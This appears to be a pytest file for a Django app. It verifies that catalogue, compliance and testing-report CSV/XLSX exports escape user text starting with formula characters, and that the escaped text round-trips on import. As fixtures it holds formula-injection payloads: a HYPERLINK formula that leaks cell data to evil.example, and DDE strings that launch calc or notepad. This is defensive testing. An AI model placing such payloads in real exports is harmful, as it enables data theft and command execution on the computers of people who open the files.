"""Exports cannot carry formulas (issue 16, item 6): every XLSX and CSV export writes user
text starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return as text, and the
catalogue's export still imports again unchanged.

Every export is walked: the catalogue (web, API, command line; CSV and XLSX) and the
compliance report (XLSX). A new export route or a module writing CSV or creating a workbook
without :mod:`laksana.tabular` fails the first two tests until it is added here."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import URLResolver, get_resolver, reverse
from openpyxl import load_workbook

import laksana
from laksana import tabular
from laksana.accounts.services import issue_token
from laksana.cases import services as case_services
from laksana.catalog import samples, services, spreadsheet
from laksana.catalog.models import Application
from laksana.demo.catalog import add_sample_units

from ..catalog.test_roundtrip import empty_twin, export, normalised
from ..reports.conftest import JUNE, _done

pytestmark = pytest.mark.django_db

#: Text a user could type, each starting with one of the characters of the rule.
HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "description": "+cmd|' /C calc'!A0",
    "function": "-2+3+cmd|' /C notepad'!A0",
    "legal_basis": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source_code_location": "\t=1+1",
}
STARTS = tuple(tabular.FORMULA_STARTS)
SRC = Path(laksana.__file__).parent


# --- every writer goes through laksana.tabular ---------------------------------------------


def _writers(tree: ast.AST) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
        if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("openpyxl"):
            found += [f"openpyxl {a.name}" for a in node.names if a.name == "Workbook"]
        if isinstance(node, ast.ImportFrom) and node.module == "csv":
            found += [f"csv {a.name}" for a in node.names if a.name in ("writer", "DictWriter")]
        if isinstance(node, ast.Attribute) and node.attr == "Workbook":
            found.append("openpyxl.Workbook")
    return found


def test_no_module_but_tabular_writes_csv_or_creates_a_workbook():
    offenders = {}
    for path in SRC.rglob("*.py"):
        if path.name == "tabular.py" and path.parent == SRC:
            continue
        found = _writers(ast.parse(path.read_text(encoding="utf-8")))
        if found:
            offenders[str(path.relative_to(SRC))] = found
    assert offenders == {}


def _routes(patterns, prefix=""):
    for p in patterns:
        if isinstance(p, URLResolver):
            yield from _routes(p.url_patterns, prefix + str(p.pattern))
        else:
            yield prefix + str(p.pattern)


def test_every_export_route_is_walked_here():
    exports = {
        r
        for r in _routes(get_resolver().url_patterns)
        if re.search(r"export|ekspor|\.xlsx|\.csv", r, re.IGNORECASE)
    }
    assert exports >= {"api/applications/export", "katalog/ekspor/", "laporan/kepatuhan.xlsx"}
    # The testing module's reports (walked below) and its scenario sets' exports (walked in
    # tests/quality: test_views_sets and test_api_sets write hostile texts as text).
    exports -= {
        "pengujian/laporan.xlsx",
        "pengujian/laporan/<int:pk>.xlsx",
        "pengujian/set/<int:pk>/ekspor/",
        "api/scenario-sets/<set_id>/export",
        # The maintenance report's workbook (tests/maintenance/test_report.py writes a plan
        # titled with a formula and reads it back as text).
        "pemeliharaan/rencana/<int:pk>/laporan.xlsx",
    }
    assert exports == {"api/applications/export", "katalog/ekspor/", "laporan/kepatuhan.xlsx"}


# --- what a safe file looks like -----------------------------------------------------------


def csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe_csv(content: bytes, hostile: list[str]) -> None:
    cells = csv_cells(content)
    assert [c for c in cells if c.startswith(STARTS)] == []
    for value in hostile:
        assert "'" + value in cells, f"{value!r} is in the file, escaped"


def assert_safe_xlsx(content: bytes, hostile: list[str]) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = load_workbook(io.BytesIO(content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str) and cell.value.startswith(STARTS):
            assert cell.quotePrefix, f"{cell.coordinate} {cell.value!r} is marked as text"
    values = [c.value for c in cells]
    for value in hostile:
        assert value in values, f"{value!r} is in the workbook, as it was written"


# --- the catalogue -------------------------------------------------------------------------


@pytest.fixture
def hostile_catalogue(bali):
    add_sample_units(bali)
    table = spreadsheet.read_table(samples.inventory_bytes(), samples.INVENTORY_NAME)
    assert services.import_applications(
        None, bali.agency, table, spreadsheet.guess_mapping(table.headers)
    ).ok
    app = Application.objects.filter(agency=bali.agency).order_by("name").first()
    assert app is not None
    for key in ("name", "description", "function", "legal_basis", "source_code_location"):
        setattr(app, key, HOSTILE[key])
    app.save()
    return bali


CATALOGUE_TEXT = [
    HOSTILE[k] for k in ("name", "description", "function", "legal_basis", "source_code_location")
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_page_export_writes_formulas_as_text(client, hostile_catalogue, fmt):
    client.force_login(hostile_catalogue["kabid"].user)
    response = client.get(reverse("catalog:export"), {"format": fmt})
    assert response.status_code == 200
    check = assert_safe_csv if fmt == "csv" else assert_safe_xlsx
    check(response.content, CATALOGUE_TEXT)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_api_export_writes_formulas_as_text(client, hostile_catalogue, fmt):
    _token, secret = issue_token(hostile_catalogue["kabid"], "tests")
    response = client.get(
        "/api/applications/export", {"format": fmt}, HTTP_AUTHORIZATION=f"Bearer {secret}"
    )
    assert response.status_code == 200
    check = assert_safe_csv if fmt == "csv" else assert_safe_xlsx
    check(response.content, CATALOGUE_TEXT)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_catalogue_command_export_writes_formulas_as_text(hostile_catalogue, tmp_path, fmt):
    path = tmp_path / f"katalog.{fmt}"
    call_command("catalog", "export", "--agency", hostile_catalogue.agency.slug, "-o", str(path))
    check = assert_safe_csv if fmt == "csv" else assert_safe_xlsx
    check(path.read_bytes(), CATALOGUE_TEXT)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_escaped_text_imports_again_unchanged(hostile_catalogue, fmt):
    # The import trims surrounding white space (a leading tab is not kept by any import);
    # text that starts with an apostrophe before a formula character is kept as it is.
    kept = "'=1+1"
    Application.objects.filter(name=HOSTILE["name"]).update(source_code_location=kept)
    headers, rows = export(hostile_catalogue.agency)
    content = (
        spreadsheet.to_xlsx(headers, rows) if fmt == "xlsx" else spreadsheet.to_csv(headers, rows)
    )
    twin = empty_twin(hostile_catalogue.agency)
    table = spreadsheet.read_table(content, f"katalog.{fmt}")
    report = services.import_applications(
        None, twin, table, spreadsheet.guess_mapping(table.headers)
    )
    assert report.ok, report.problems[:5]
    again = Application.objects.get(agency=twin, name=HOSTILE["name"])
    assert again.description == HOSTILE["description"]
    assert again.function == HOSTILE["function"]
    assert again.legal_basis == HOSTILE["legal_basis"]
    assert again.source_code_location == kept
    assert normalised(export(twin)[1]) == normalised(rows)


def test_the_monitoring_sheet_writes_formulas_as_text(client, hostile_catalogue):
    """The catalogue workbook's sheet "Pemantauan" (laksana.monitoring.sheet) escapes a
    monitor's name and keyword like the applications' text, and they import again unchanged."""
    from laksana.monitoring import services as monitoring
    from laksana.monitoring.models import Monitor

    app = Application.objects.get(agency=hostile_catalogue.agency, name=HOSTILE["name"])
    name, keyword = "@SUM(1+1)*cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example")'
    monitoring.add_monitor(
        None,
        app.pk,
        monitoring.MonitorInput(name=name, target="http://127.0.0.1:8000/", keyword=keyword),
    )
    client.force_login(hostile_catalogue["kabid"].user)
    response = client.get(reverse("catalog:export"), {"format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert "Pemantauan" in book.sheetnames
    assert_safe_xlsx(response.content, [name, keyword])
    twin = empty_twin(hostile_catalogue.agency)
    table = spreadsheet.read_table(response.content, "katalog.xlsx")
    report = services.import_applications(
        None, twin, table, spreadsheet.guess_mapping(table.headers)
    )
    assert report.ok, report.problems[:5]
    again = Monitor.objects.get(agency=twin)
    assert (again.name, again.keyword) == (name, keyword)


# --- the compliance report -----------------------------------------------------------------


def test_the_compliance_workbook_writes_formulas_as_text(client, bali, sop002):
    case = case_services.open_case(bali["dinkes_staf"], sop002, HOSTILE["name"])
    _done(case, "s2", 1, 200, bali["ketuatim"])
    client.force_login(bali["kabid"].user)
    response = client.get(reverse("reports:compliance_xlsx"), JUNE)
    assert response.status_code == 200
    assert_safe_xlsx(response.content, [HOSTILE["name"]])


def test_the_testing_reports_write_formulas_as_text(client, bali):
    sikesda = bali.applications["sikesda"]
    Application.objects.filter(pk=sikesda.pk).update(name=HOSTILE["name"])
    client.force_login(bali["kadis"].user)
    for url in (reverse("quality:reports_xlsx"), reverse("quality:report_xlsx", args=[sikesda.pk])):
        response = client.get(url)
        assert response.status_code == 200
        assert_safe_xlsx(response.content, [HOSTILE["name"]])


# --- the rule itself -----------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    ["=1", "+1", "-1", "@A1", "\t=1", "\r=1", "'=1", "''-1", "'abc", "abc", "", "a=b", "'"],
)
def test_escaping_is_undone_exactly(value):
    assert tabular.unescape_csv_text(tabular.escape_csv_text(value)) == value
    escaped = tabular.escape_csv_text(value)
    assert not escaped.startswith(STARTS)


def test_numbers_stay_numbers():
    assert csv_cells(tabular.csv_bytes([[-5, -1.5, Decimal("-7"), "-5"]])) == [
        "-5",
        "-1.5",
        "-7",
        "'-5",
    ]
    headers = [c.header for c in spreadsheet.COLUMNS]
    row = [None] * len(headers)
    money = next(i for i, c in enumerate(spreadsheet.COLUMNS) if c.key == "contract_value")
    row[money] = Decimal("-1500000.00")
    assert "-1500000" in csv_cells(spreadsheet.to_csv(headers, [row]))
    book = load_workbook(io.BytesIO(spreadsheet.to_xlsx(headers, [row])))
    cell = book["Aplikasi"].cell(row=2, column=money + 1)
    assert cell.value == -1500000 and cell.data_type == "n" and not cell.quotePrefix


def test_dates_and_plain_text_are_left_alone():
    assert csv_cells(tabular.csv_bytes([[dt.date(2026, 1, 2), "Dinas Kesehatan"]])) == [
        "2026-01-02",
        "Dinas Kesehatan",
    ]
